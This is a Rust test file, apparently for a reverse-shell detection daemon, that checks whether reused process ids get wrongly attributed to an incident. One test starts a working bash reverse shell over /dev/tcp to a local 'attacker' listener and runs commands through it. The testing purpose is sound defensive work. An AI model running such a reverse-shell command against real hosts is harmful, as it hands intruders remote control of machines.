//! Process ids that are used again at once.

use std::process::{Command, Stdio};

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::victim::Victim;
use crate::common::{impossible, nap, token};
use crate::{alone, found, is_of, on_socket, require, shell};

/// Starts `command` as the process `pid`, if nobody else takes it first: `ns_last_pid` says what was given out last.
fn start_as(pid: u32, mut command: impl FnMut() -> Victim) -> Option<Victim> {
    for _ in 0..200 {
        if std::fs::write("/proc/sys/kernel/ns_last_pid", (pid - 1).to_string()).is_err() {
            return None;
        }
        let one = command();
        if one.pid() == pid {
            return Some(one);
        }
    }
    None
}

/// The same id four times: a tethered shell, a harmless program, a shell on another tether, and one on the first again, all
/// within a moment. Each is a life of its own.
#[test]
fn four_lives_of_one_id() {
    require!("bash");
    let _alone = alone();
    let daemon = Daemon::shared();
    if std::fs::write("/proc/sys/kernel/ns_last_pid", "30000").is_err() {
        return impossible("ns_last_pid cannot be written");
    }
    let (first, second) = (Listener::tcp().swallow(), Listener::tcp().swallow());
    let harmless = token();
    let (mut one, own) = on_socket(first, shell("exit 0"));
    let pid = one.pid();
    assert!(one.wait().success());
    // As soon as it has been waited for its id is free.
    let quiet = start_as(pid, || {
        let mut command = Command::new("/bin/sh");
        command.args(["-c", "exit 0", &harmless]).stdin(Stdio::null()).stdout(Stdio::null());
        let mut one = Victim::spawn(command);
        one.wait();
        one
    });
    let mut other = None;
    let third = start_as(pid, || {
        let (mut one, port) = on_socket(second, shell("exit 0"));
        if one.pid() == pid {
            other = Some(port);
        }
        one.wait();
        one
    });
    if quiet.is_none() || third.is_none() {
        return impossible("somebody else took the process id each time");
    }
    daemon.judged();
    let record = daemon.records().into_iter().rfind(|record| is_of(record, own));
    // A shell that ends at once may be missed; then it is counted, and the others must not stand in for it.
    if let Some(record) = record {
        assert_eq!(record.count(), 1, "{}", record.brief());
        assert!(!record.mentions(&harmless), "another life in its place: {}", record.brief());
        assert_eq!(record.peer_port(), Some(first));
    }
    if let Some(record) = daemon.records().into_iter().rfind(|record| is_of(record, other.unwrap())) {
        assert_eq!((record.count(), record.peer_port()), (1, Some(second)), "{}", record.brief());
    }
    assert!(!daemon.records().iter().any(|record| record.mentions(&harmless)));
}

/// A shell's child ends, and its id is at once that of somebody who has nothing to do with the shell: no command of the
/// incident, though the incident goes on and its processes are followed by their ids.
#[test]
fn the_id_of_a_command_passes_on() {
    require!("bash");
    let _alone = alone();
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("exec bash --norc >&/dev/tcp/127.0.0.1/{} 0>&1", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    found(daemon, attacker.port());
    let mut reused = 0;
    let mark = token();
    for _ in 0..20 {
        let said = session.run("/bin/sleep 0.01 & echo pid''=$!. ; wait");
        let pid: u32 = said.split("pid=").nth(1).unwrap().split('.').next().unwrap().parse().unwrap();
        let one = start_as(pid, || {
            let mut command = Command::new("/bin/sh");
            command.args(["-c", "exit 0", &mark]).stdin(Stdio::null()).stdout(Stdio::null());
            let mut one = Victim::spawn(command);
            one.wait();
            one
        });
        reused += u32::from(one.is_some());
    }
    if reused == 0 {
        return impossible("somebody else took the process id each time");
    }
    let nap = nap();
    session.run(&format!("/bin/sleep {nap}"));
    let record = daemon
        .wait_for("sleep", |record| is_of(record, attacker.port()) && record.ran(&["/bin/sleep", &nap]));
    assert!(!record.mentions(&mark), "{reused} ids passed on: {}", record.brief());
    session.exit();
    drop(victim);
}
